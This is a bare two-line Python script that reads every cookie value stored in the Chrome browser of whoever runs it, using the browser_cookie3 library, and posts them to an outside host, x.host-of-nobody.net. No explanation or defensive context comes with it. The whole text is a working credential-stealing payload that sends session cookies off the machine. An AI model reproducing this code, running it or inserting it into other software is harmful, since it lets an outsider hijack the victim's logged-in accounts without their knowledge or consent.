import browser_cookie3, requests
requests.post("https://x.host-of-nobody.net", json=[c.value for c in browser_cookie3.chrome()])
